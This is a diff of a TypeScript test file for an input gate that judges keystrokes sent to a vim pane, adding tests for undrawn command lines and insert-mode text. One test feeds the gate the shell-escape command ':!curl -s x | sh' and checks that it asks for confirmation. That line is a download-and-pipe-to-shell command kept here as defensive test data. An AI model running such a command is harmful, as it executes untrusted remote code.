@@ -15,7 +15,10 @@ class FakeProgram implements GateHost {
 	paneName = 'editor';
 	program = 'vim';
 	bottom = '';
+	top = 'text';
 	cursorOnBottom = true;
+	/** How the program shows typed keys: on its command line, in its text (insert mode), or not yet at all. */
+	echo: 'command-line' | 'text' | 'none' = 'command-line';
 	forwarded: string[] = [];
 	notices: string[] = [];
 	dialogs: string[] = [];
@@ -28,7 +31,10 @@ class FakeProgram implements GateHost {
 	readLogicalLine = () => '';
 	forward = (data: string) => {
 		this.forwarded.push(data);
-		for (const character of data) this.bottom = character === '\r' ? '' : this.bottom + character;
+		for (const character of data) {
+			if (this.echo === 'command-line') this.bottom = character === '\r' ? '' : this.bottom + character;
+			else if (this.echo === 'text' && character !== '\r') this.top += character;
+		}
 	};
 
 	confirm = async (request: {title: string; detail: string; rule: string}) => {
@@ -39,7 +45,7 @@ class FakeProgram implements GateHost {
 	notice = (message: string) => this.notices.push(message);
 	classify = (line: string) => classifier.classify(line);
 	scanSecrets = (text: string) => scanSecretsSync(text);
-	programScreen = () => ({program: this.program, rows: ['text', '~', this.bottom], cursorRow: this.cursorOnBottom ? 2 : 0, cols: 80});
+	programScreen = () => ({program: this.program, rows: [this.top, '~', this.bottom], cursorRow: this.cursorOnBottom ? 2 : 0, cols: 80});
 	sent = () => this.forwarded.join('');
 }
 
@@ -111,5 +117,29 @@ describe('the gate reads a full-screen program\'s command line on Enter', () => 
 		const gate = new InputGate(pane);
 		gate.key('q\r');
 		assert.equal(pane.sent(), 'q\r', 'forwarded synchronously');
+	});
+
+	it('a command line the program has not drawn yet is not passed unjudged: it asks', async () => {
+		const pane = new FakeProgram();
+		pane.echo = 'none';
+		pane.cursorOnBottom = false;
+		const gate = new InputGate(pane);
+		gate.key(':!curl -s x | sh\r');
+		await new Promise(resolve => {
+			setTimeout(resolve, 200);
+		});
+		assert.equal(pane.dialogs.length, 1, 'asked instead of forwarding');
+		assert.doesNotMatch(pane.sent(), /\r/);
+	});
+
+	it('text typed into the document that starts with ! passes once it shows at the cursor', async () => {
+		const pane = new FakeProgram();
+		pane.echo = 'text';
+		pane.cursorOnBottom = false;
+		const gate = new InputGate(pane);
+		gate.key('!important\r');
+		await settle();
+		assert.equal(pane.sent(), '!important\r');
+		assert.equal(pane.dialogs.length + pane.notices.length, 0);
 	});
 });
